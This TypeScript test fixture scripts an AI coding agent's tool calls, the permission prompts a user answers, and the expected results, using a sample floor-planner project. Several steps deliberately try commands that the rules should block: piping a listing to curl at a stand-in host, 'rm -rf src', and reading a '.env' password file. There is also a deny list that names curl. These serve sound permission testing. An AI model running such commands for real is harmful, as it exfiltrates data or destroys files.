// A task that uses every tool, step by step: what the model calls, where the user is asked and what they answer, and what the result must say.
import { cpSync, mkdirSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { projectFolder } from '../../../scripts/setup/paths.mjs';

export interface Ask {
	/** Accessible name of the card. */
	readonly card: string;
	/** Its button. */
	readonly press: string;
	/** Of a question: what is chosen before. */
	readonly choose?: string;
}
export interface Call {
	readonly tool: string;
	readonly input: unknown;
	/** In the text of its result. */
	readonly says: RegExp;
	readonly isError?: true;
}
/** One reply of the model. */
export interface Step {
	readonly calls: readonly Call[];
	/** In the order in which they come. Empty: nobody is asked. */
	readonly asks: readonly Ask[];
}

export const WEB_ANSWER = 'Larch lasts longest outside.';
export const AGENT_REPORT = 'The sample has two source files.';
/** In the command line of the process that it starts. */
export const LONG_MARK = '271_000';
const LONG_COMMAND = `node -e "setTimeout(() => 0, ${LONG_MARK})"`;
/** Stands for the id of the command that was started in the background last. */
export const BACKGROUND = 'the background command';

export const rules = {
	allow: ['Bash(npm test:*)', 'Edit(drafts/**)', 'Browser(domain:127.0.0.1)'],
	ask: ['Read(contracts/**)'],
	deny: ['Bash(curl:*)', 'Read(locked/**)', 'WebFetch(domain:denied.example)'],
};

const PNG = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
const PDF = `%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 100 100]>>endobj
trailer<</Root 1 0 R>>
%%EOF`;
const cell = (id: string, source: string) => ({
	...{ cell_type: 'code', execution_count: null, id, metadata: {}, outputs: [] },
	source: [source],
});
const NOTEBOOK = { cells: [cell('one', 'print(1)')], metadata: {}, nbformat: 4, nbformat_minor: 5 };
const SKILL = '---\nname: measuring\ndescription: How rooms are measured\n---\nMeasure twice.\n';

/** What the task needs beside the sample project. */
export function prepareFolder(folder: string): void {
	const files: Readonly<Record<string, string | Buffer>> = {
		'plan.png': Buffer.from(PNG, 'base64'),
		'offer.pdf': PDF,
		'sizes.ipynb': `${JSON.stringify(NOTEBOOK, null, 1)}\n`,
		'.env': 'PASSWORD=larch\n',
		'locked/prices.txt': 'secret\n',
		'contracts/one.txt': 'Contract one\n',
		'rooms.txt': 'hall 12\nkitchen 9\nbath 6\n',
		'.claude/skills/measuring/SKILL.md': SKILL,
		'../outside.txt': 'outside\n',
	};
	for (const [path, content] of Object.entries(files)) {
		mkdirSync(dirname(join(folder, path)), { recursive: true });
		writeFileSync(join(folder, path), content);
	}
}

/** As it was before the task. */
export function resetFolder(folder: string): void {
	for (const name of readdirSync(folder)) rmSync(join(folder, name), { recursive: true });
	cpSync(join(projectFolder, 'test', 'fixtures', 'sample'), folder, { recursive: true });
	prepareFolder(folder);
}

/** `site`: a page on this machine with a button “Order”; `draft`: a new file where no edit is shown first. */
export function everyToolSteps(folder: string, site: string, draft: string): readonly Step[] {
	const call = (tool: string, input: unknown, says: RegExp): Call => ({ tool, input, says });
	const bad = (tool: string, input: unknown, says: RegExp): Call => ({ tool, input, says, isError: true });
	const late = (name: string, input: unknown, says: RegExp): Call => call('CallTool', { name, input }, says);
	const free = (...calls: Call[]): Step => ({ calls, asks: [] });
	const asked = (card: string, press: string, ...calls: Call[]): Step => ({ calls, asks: [{ card, press }] });
	const bash = (command: string, says: RegExp, more = {}) => call('Bash', { command, ...more }, says);
	const run = (command: string, says: RegExp, more = {}) =>
		asked('Permission: Bash', 'Allow once', bash(command, says, more));
	const read = (file_path: string, says: RegExp, more = {}) => call('Read', { file_path, ...more }, says);
	const edit = (file_path: string, old_string: string, new_string: string, says = /Edited/) =>
		call('Edit', { file_path, old_string, new_string }, says);
	const tasks = (state: string) => ({ tasks: [{ text: 'Look at the floor plan', state }] });
	const question = { header: 'Wood', question: 'Which wood?', options: [{ label: 'Oak' }, { label: 'Larch' }] };
	return [
		free(call('TaskList', tasks('active'), /1 task/)),
		free(read('src/invoice.js', /PRICE_PER_SQUARE_METRE/)),
		free(read('src/invoice.js', /TAX_RATE/, { offset: 3, limit: 2 })),
		free(read('plan.png', /plan\.png/)),
		free(read('offer.pdf', /offer\.pdf/)),
		free(read('sizes.ipynb', /print\(1\)/)),
		free(bad('Read', { file_path: 'missing.js' }, /does not exist/)),
		free(bad('Read', { file_path: 7 }, /not valid/)),
		free(bad('Paint', { colour: 'red' }, /Paint/)),
		asked('Permission: Read', 'Allow once', read('../outside.txt', /outside/)),
		asked('Permission: Read', 'Deny', bad('Read', { file_path: '.env' }, /denied/)),
		asked('Permission: Read', 'Allow once', read('contracts/one.txt', /Contract one/)),
		free(bad('Read', { file_path: 'locked/prices.txt' }, /Read\(locked/)),
		free(call('Glob', { pattern: 'src/*.js' }, /area\.js/)),
		free(call('Grep', { pattern: 'TAX_RATE' }, /invoice\.js/)),
		free(call('Grep', { pattern: 'no such words here' }, /No /i)),
		free(read('src/area.js', /roomArea/), call('Glob', { pattern: '*.md' }, /README/), read('README.md', /./)),
		asked('Edit: src/invoice.js', 'Accept', edit('src/invoice.js', '24.5', '26')),
		asked('Edit: src/invoice.js', 'Reject', bad('Edit', replace('0.19', '0.2'), /reject/i)),
		free(bad('Edit', replace('not in there', 'x'), /not found|does not/i)),
		asked('Edit: notes/new.md', 'Accept', call('Write', { file_path: 'notes/new.md', content: '# New\n' }, /notes/)),
		asked('Edit: rooms.txt', 'Accept', call('Write', { file_path: 'rooms.txt', content: 'hall 13\n' }, /rooms/)),
		free(call('Write', { file_path: draft, content: 'Draft\n' }, /drafts/)),
		free(call('FindTools', { query: 'replacements in one file' }, /MultiEdit/)),
		asked(
			'Edit: src/area.js',
			'Accept',
			late(
				'MultiEdit',
				{
					file_path: 'src/area.js',
					edits: [{ old_string: 'of a rectangle', new_string: 'of one rectangle' }],
				},
				/area/,
			),
		),
		asked(
			'Edit: sizes.ipynb',
			'Accept',
			late('NotebookEdit', { file_path: 'sizes.ipynb', action: 'insert', source: 'print(2)' }, /Inserted cell 2/),
		),
		free(bash('ls src', /invoice\.js/)),
		free(bash('git status 2>/dev/null; pwd', /floor-planner/)),
		free(bash('cd src', /./)),
		free(bash('pwd', /floor-planner\/src/)),
		free(bash('cd ..', /./)),
		free(bash('npm test --silent -- --test-name-pattern=nothing', /./)),
		run('touch made.txt', /./),
		run('echo one > one.txt && cat one.txt', /one/),
		asked('Permission: Bash', 'Deny', bad('Bash', { command: 'rm -rf src' }, /denied/)),
		free(bad('Bash', { command: 'curl http://denied.example/' }, /Bash\(curl/)),
		free(bad('Bash', { command: 'ls | curl -d @- http://denied.example/' }, /Bash\(curl/)),
		{
			calls: [bad('Bash', { command: LONG_COMMAND, timeout_ms: 1_000 }, /stopped after 1000 ms/)],
			asks: [allow('Bash')],
		},
		asked('Permission: Bash', 'Always allow', bash('mkdir -p deep/one', /./)),
		free(bash('mkdir -p deep/two', /./)),
		run('node -e "setInterval(() => 0, 1000)"', /background/i, { run_in_background: true }),
		free(late('BashOutput', { id: BACKGROUND }, /runs/)),
		free(late('KillBash', { id: BACKGROUND }, /./)),
		free(late('Diagnostics', {}, /problem/)),
		free(late('Symbols', { action: 'outline', path: 'src/invoice.js' }, /total|nothing here/)),
		free(late('Recall', { query: 'outside' }, /message/)),
		free(late('Skill', { name: 'measuring' }, /Measure twice/)),
		asked('Permission: WebFetch', 'Allow once', late('WebFetch', { url: site }, /Wood/)),
		free(bad('CallTool', { name: 'WebFetch', input: { url: 'http://denied.example/' } }, /denied\.example/)),
		asked('Permission: WebSearch', 'Allow once', late('WebSearch', { query: 'which wood lasts' }, /Larch lasts/)),
		free(late('Browser', { action: 'open', url: site }, /Order/)),
		free(late('Browser', { action: 'read' }, /button/)),
		free(late('Browser', { action: 'screenshot' }, /Screenshot/)),
		free(late('Browser', { action: 'console' }, /ordering|empty/i)),
		asked(
			'Permission: Browser',
			'Deny',
			bad('CallTool', { name: 'Browser', input: { action: 'open', url: 'http://localhost:9/' } }, /denied/),
		),
		{
			calls: [call('AskUser', { questions: [question] }, /Larch/)],
			asks: [{ card: 'Question', press: 'Answer', choose: 'Larch' }],
		},
		free(call('Plan', { action: 'enter' }, /Plan mode is on/)),
		free(bad('Bash', { command: 'touch in-plan-mode.txt' }, /Plan mode is on/)),
		asked(
			'Plan',
			'Accept and review edits',
			call('Plan', { action: 'present', plan: '# Measure\n\n1. Twice' }, /accepted the plan/),
		),
		free(
			call(
				'Agent',
				{ description: 'Count the files', prompt: AGENT_PROMPT, agent_type: 'explore' },
				/two source files/,
			),
		),
		free(
			call('Agent', { description: 'Count again', prompt: AGENT_PROMPT, agent_type: 'explore' }, /two source files/),
			call('Agent', { description: 'And again', prompt: AGENT_PROMPT, agent_type: 'plan' }, /two source files/),
		),
		free(call('FindTools', { query: 'echo' }, /mcp__everything__echo/)),
		asked(
			'Permission: mcp__everything__echo',
			'Allow once',
			late('mcp__everything__echo', { message: 'hall' }, /Echo: hall/),
		),
		asked(
			'Permission: mcp__everything__get-sum',
			'Always allow',
			late('mcp__everything__get-sum', { a: 2, b: 3 }, /5/),
		),
		free(late('mcp__everything__get-sum', { a: 20, b: 3 }, /23/)),
		free(call('TaskList', tasks('done'), /1 of 1 done/)),
	];

	function replace(old_string: string, new_string: string) {
		return { file_path: `${folder}/src/invoice.js`, old_string, new_string };
	}
	function allow(tool: string): Ask {
		return { card: `Permission: ${tool}`, press: 'Allow once' };
	}
}

/** Words by which a request of an agent is known. */
export const AGENT_PROMPT = 'Count the source files of this sample and report.';

/** Steps that go on until they are stopped: `hanging` is an address that never answers. An agent is held up by the test. */
export function longSteps(hanging: string): readonly (Step & { readonly isAtWork: string })[] {
	const one = (tool: string, input: unknown, isAtWork: string, card?: string) => ({
		calls: [{ tool, input, says: /./, isError: true as const }],
		asks: card === undefined ? [] : [{ card: `Permission: ${card}`, press: 'Allow once' }],
		isAtWork,
	});
	const server = 'mcp__everything__trigger-long-running-operation';
	return [
		one('Bash', { command: LONG_COMMAND }, 'process', 'Bash'),
		one('CallTool', { name: 'WebFetch', input: { url: hanging } }, 'site', 'WebFetch'),
		one('CallTool', { name: 'Browser', input: { action: 'open', url: hanging } }, 'site'),
		one('CallTool', { name: server, input: { duration: 300, steps: 1000 } }, 'row', server),
		one('Agent', { description: 'Count for ever', prompt: AGENT_PROMPT, agent_type: 'explore' }, 'agent'),
	];
}
